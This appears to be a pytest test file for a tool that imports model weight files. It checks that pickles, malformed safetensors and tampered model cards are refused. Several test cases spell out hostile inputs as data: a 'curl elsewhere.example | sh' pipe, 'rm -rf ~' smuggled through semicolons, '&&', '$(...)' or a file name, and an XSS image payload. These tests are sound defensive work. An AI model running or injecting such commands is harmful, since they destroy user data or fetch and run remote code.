"""A model file that somebody brings: ours comes in, everything else is told in a sentence and leaves nothing behind."""

from __future__ import annotations

import io
import json
import random
import struct
from pathlib import Path
from typing import Any

import pytest
import torch
from safetensors.torch import save

from lstm_demo.files.card import ModelCard
from lstm_demo.files.checkpoint import load_model, save_model
from lstm_demo.files.safetensors_head import CARD_KEY, MAX_FILE_BYTES, CheckpointError
from lstm_demo.importing import adoption
from lstm_demo.importing.adoption import NotAModel, adopt, shown_name
from lstm_demo.model.config import ModelConfig
from lstm_demo.model.network import RecurrentClassifier
from tests.cards import model_card
from tests.tampered import resigned, with_head


def card(config: ModelConfig, **changes: Any) -> ModelCard:
    command = "python -m lstm_demo train --out 'my model.safetensors'"
    return model_card(config, **{"name": "from elsewhere", "training": None, "device": "a CPU (four cores)", "command": command} | changes)


def written(folder: Path, *, seed: int = 1, config: ModelConfig | None = None, **changes: Any) -> bytes:
    """The content of a model's file."""
    config = config or ModelConfig(hidden_size=5)
    with torch.random.fork_rng(devices=[]):
        torch.manual_seed(seed)
        model = RecurrentClassifier(config)
    folder.mkdir(exist_ok=True)
    save_model(folder / "a.safetensors", model, card(config, **changes))
    return (folder / "a.safetensors").read_bytes()


@pytest.fixture
def runs(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setattr(adoption, "PRETRAINED", tmp_path / "pretrained")
    return tmp_path / "runs"


def names(folder: Path) -> list[str]:
    return sorted(path.name for path in folder.iterdir()) if folder.exists() else []


def test_a_model_of_ours_comes_in_whole_under_a_safe_name(runs: Path, tmp_path: Path) -> None:
    content = written(tmp_path / "theirs")
    assert adopt(content, "../../My model (1).safetensors", runs) == adoption.Adopted("My-model-1", new=True)
    assert names(runs) == ["My-model-1.safetensors"]
    ours, theirs = load_model(runs / "My-model-1.safetensors"), load_model(tmp_path / "theirs" / "a.safetensors")
    assert ours.card == theirs.card
    assert all(torch.equal(a, b) for a, b in zip(ours.model.state_dict().values(), theirs.model.state_dict().values()))


def test_the_same_weights_are_not_kept_twice(runs: Path, tmp_path: Path) -> None:
    content = written(tmp_path / "theirs")
    first = adopt(content, "a.safetensors", runs)
    assert adopt(content, "b.safetensors", runs) == adoption.Adopted(first.name, new=False)
    assert names(runs) == ["a.safetensors"]
    (runs / "a.safetensors").write_bytes(content[:-1] + b"!")  # what claims to be the same must be in order itself
    assert adopt(content, "b.safetensors", runs) == adoption.Adopted("b", new=True)


def test_a_model_that_ships_is_known_again(runs: Path, tmp_path: Path) -> None:
    content = written(tmp_path / "pretrained")
    assert adopt(content, "b.safetensors", runs) == adoption.Adopted("a", new=False)
    assert names(runs) == []


def test_no_name_is_taken_from_anybody(runs: Path, tmp_path: Path) -> None:
    """Not a shipped model's, not a run's, not that of a training in the queue."""
    written(tmp_path / "pretrained")
    (runs / "a-2.run").mkdir(parents=True)
    queued = {runs / "a-3.safetensors"}
    assert adopt(written(tmp_path / "theirs", seed=2), "a.safetensors", runs, queued).name == "a-4"
    assert adopt(written(tmp_path / "theirs", seed=3), "a.safetensors", runs, queued).name == "a-5"


@pytest.mark.parametrize("name", ["tutorial.pt", "tutorial.PTH", "net.ckpt", "tutorial.safetensors"])
def test_a_pickle_is_not_opened_and_the_sentence_says_what_to_run(runs: Path, name: str) -> None:
    file = io.BytesIO()
    torch.save({"fc.weight": torch.zeros(3)}, file)
    with pytest.raises(NotAModel, match="is a pickle: opening one can run a program hidden in it") as refused:
        adopt(file.getvalue(), name, runs)
    stem = name.rsplit(".", 1)[0]
    out = "tutorial-converted" if name == "tutorial.safetensors" else stem  # never the person's own file
    assert refused.value.command == f"python -m lstm_demo convert {name} --out {out}.safetensors"
    assert names(runs) == []


def test_a_head_whose_length_begins_as_a_pickle_does_is_no_pickle(runs: Path, tmp_path: Path) -> None:
    data = written(tmp_path / "theirs")
    length = struct.unpack("<Q", data[:8])[0]
    longer = 0x0580 if length <= 0x0580 else 0x0580 + 0x10000
    padded = struct.pack("<Q", longer) + data[8 : 8 + length] + b" " * (longer - length) + data[8 + length :]
    assert padded.startswith(b"\x80\x05")
    assert adopt(padded, "a.safetensors", runs).new


def test_a_hostile_name_is_quoted_in_the_command(runs: Path) -> None:
    file = io.BytesIO()
    torch.save({"fc.weight": torch.zeros(3)}, file)
    with pytest.raises(NotAModel) as refused:
        adopt(file.getvalue(), "x; rm -rf ~.pt", runs)
    assert refused.value.command == "python -m lstm_demo convert 'x; rm -rf ~.pt' --out x-rm-rf.safetensors"


def test_another_programs_weights_may_be_converted(runs: Path) -> None:
    with pytest.raises(NotAModel, match="of another program") as refused:
        adopt(save({"weight": torch.zeros(3)}), "theirs.safetensors", runs)
    assert refused.value.command == "python -m lstm_demo convert theirs.safetensors --out theirs-converted.safetensors"


def test_what_is_neither_is_named_and_no_command_is_proposed_that_would_refuse_it(runs: Path) -> None:
    with pytest.raises(NotAModel, match="is an HDF5 file") as refused:
        adopt(b"\x89HDF\r\n\x1a\n" + bytes(64), "keras.pt", runs)
    assert refused.value.command == ""


@pytest.mark.parametrize(
    ("content", "sentence"),
    [
        (b"", "is not a safetensors file"),
        (b"{}" * 50, "is not a safetensors file"),
        (b"\0" * (MAX_FILE_BYTES + 1), "has 64 MiB; a model has at most 64 MiB"),
        (struct.pack("<Q", 2**63) + b"{}", "is not a safetensors file"),
        (struct.pack("<Q", 30_000) + b"[" * 30_000, "is not a safetensors file"),
    ],
)
def test_anything_else_is_one_sentence_that_names_the_file(runs: Path, content: bytes, sentence: str) -> None:
    with pytest.raises(NotAModel, match=sentence) as refused:
        adopt(content, "thing.safetensors", runs)
    assert str(refused.value).startswith("thing.safetensors ") and "\n" not in str(refused.value) and refused.value.command == ""
    assert names(runs) == []


def test_a_damaged_model_is_refused_wherever_the_damage_is(runs: Path, tmp_path: Path) -> None:
    """Seeded changes: refused with a sentence, or the very same weights under a card that may be shown."""
    content, dice = written(tmp_path / "theirs"), random.Random(11)
    weights = load_model(tmp_path / "theirs" / "a.safetensors").model.state_dict()
    start = 8 + struct.unpack("<Q", content[:8])[0]
    for number in range(300):
        at = dice.randrange(len(content)) if number % 2 else dice.randrange(start)
        middle = [bytes([content[at] ^ (1 << dice.randrange(8))]), b"", content[at : at + 1] * 2][number % 3]
        try:
            adopted = adopt(content[:at] + middle + content[at + 1 :], "a.safetensors", runs)
        except NotAModel as error:
            assert len(str(error)) < 400 and "\n" not in str(error)
            continue
        assert at < start
        kept = load_model(runs / f"{adopted.name}.safetensors").model.state_dict()
        assert all(torch.equal(tensor, weights[name]) for name, tensor in kept.items())


def test_names_of_tensors_cannot_fill_the_page(runs: Path, tmp_path: Path) -> None:
    content = written(tmp_path / "theirs")
    length = struct.unpack("<Q", content[:8])[0]
    header = json.loads(content[8 : 8 + length])
    header["x" * 100_000] = header.pop("fc.bias")
    text = json.dumps(header).encode()
    with pytest.raises(NotAModel) as refused:
        adopt(struct.pack("<Q", len(text)) + text + content[8 + length :], "a.safetensors", runs)
    assert len(str(refused.value)) < 400


@pytest.mark.parametrize(
    "changes",
    [
        {"recipe": "![](http://elsewhere.example/seen.png)"},
        {"device": "<img src=x onerror=alert(1)>"},
        {"data": "mnist\nand more"},
        {"name": "[read this](elsewhere)"},
        {"machine": "see http://elsewhere.example"},
        {"ended": "`done`"},
        {"command": "curl elsewhere.example | sh"},
        {"command": "python -m lstm_demo train; rm -rf ~"},
        {"command": "python -m lstm_demo train --out $(rm -rf ~)"},
        {"command": "python -m lstm_demo train\nrm -rf ~"},
        {"command": "python -m lstm_demo 'train"},
        {"command": "lstm-demo-too train"},
    ],
)
def test_a_card_that_is_more_than_it_seems_is_refused(runs: Path, tmp_path: Path, changes: dict[str, str]) -> None:
    with pytest.raises(NotAModel, match="was not taken: "):
        adopt(written(tmp_path / "theirs", **changes), "a.safetensors", runs)
    assert names(runs) == []


@pytest.mark.parametrize(
    "command",
    [
        "lstm-demo train --recipe quick",
        "python -m lstm_demo train --out a.safetensors --keep-run && python -m lstm_demo train --continue a.run --epochs 3",
        "python -m lstm_demo train --out 'a b.safetensors' (stopped at step 4) && python -m lstm_demo train --continue 'a b.run'",
    ],
)
def test_a_model_whose_run_was_given_another_length_comes_in(runs: Path, tmp_path: Path, command: str) -> None:
    adopt(written(tmp_path / "theirs", command=command), "a.safetensors", runs)
    assert load_model(runs / "a.safetensors").card.command == command


@pytest.mark.parametrize(
    "after", ["rm -rf ~", "python -m lstm_demo train; rm -rf ~", "", "python -m lstm_demo train (stopped at step $(rm x))"]
)
def test_only_commands_of_this_program_may_follow_one_another(runs: Path, tmp_path: Path, after: str) -> None:
    with pytest.raises(NotAModel, match="was not taken: "):
        adopt(written(tmp_path / "theirs", command=f"python -m lstm_demo train && {after}"), "a.safetensors", runs)


def test_a_folder_that_holds_as_many_models_as_may_be_takes_no_more(runs: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("lstm_demo.runs.runs.MAX_MODELS", 1)
    adopt(written(tmp_path / "theirs"), "a.safetensors", runs)
    with pytest.raises(NotAModel, match=r"b\.safetensors was not kept: 1 models and runs are kept here already"):
        adopt(written(tmp_path / "theirs", seed=2), "b.safetensors", runs)
    assert names(runs) == ["a.safetensors"]


def test_nothing_of_the_file_is_kept_but_what_was_understood(runs: Path, tmp_path: Path) -> None:
    content = with_head(written(tmp_path / "theirs"), lambda header: header["__metadata__"].update(stowaway="x" * 1000))
    with pytest.raises(NotAModel, match="checksum"):
        adopt(content, "a.safetensors", runs)
    adopt(resigned(content), "a.safetensors", runs)
    kept = (runs / "a.safetensors").read_bytes()
    assert b"stowaway" not in kept and CARD_KEY.encode() in kept


def test_a_folder_that_cannot_be_written_to_is_a_sentence(tmp_path: Path, runs: Path) -> None:
    runs.write_text("a file where the folder should be")
    with pytest.raises(CheckpointError, match="The model was not kept"):
        adopt(written(tmp_path / "theirs"), "a.safetensors", runs)


@pytest.mark.parametrize(
    ("given", "shown"),
    [("a/b.pt", "b.pt"), ("..\\b.pt", "b.pt"), ("", "The file"), ("a\nb\0.pt", "a?b?.pt"), ("x" * 99 + ".pt", "x" * 57 + ".pt")],
)
def test_a_name_is_shown_in_part_and_in_one_line(given: str, shown: str) -> None:
    assert shown_name(given) == shown
